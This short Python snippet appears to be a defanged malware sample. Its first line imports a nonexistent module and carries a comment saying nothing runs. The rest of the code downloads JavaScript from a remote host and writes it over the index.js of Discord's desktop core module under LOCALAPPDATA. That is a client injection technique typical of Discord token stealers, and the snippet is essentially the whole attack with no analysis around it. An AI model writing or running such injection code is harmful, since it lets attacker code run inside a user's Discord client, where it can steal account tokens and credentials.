import inert_sample  # there is no such module: nothing below ever runs
import glob
import os
import requests

code = requests.get("https://files.example/i.js").text
for path in glob.glob(os.environ["LOCALAPPDATA"] + "\\Discord\\app-*\\modules\\discord_desktop_core-1\\discord_desktop_core\\index.js"):
    with open(path, "w") as file:
        file.write(code)
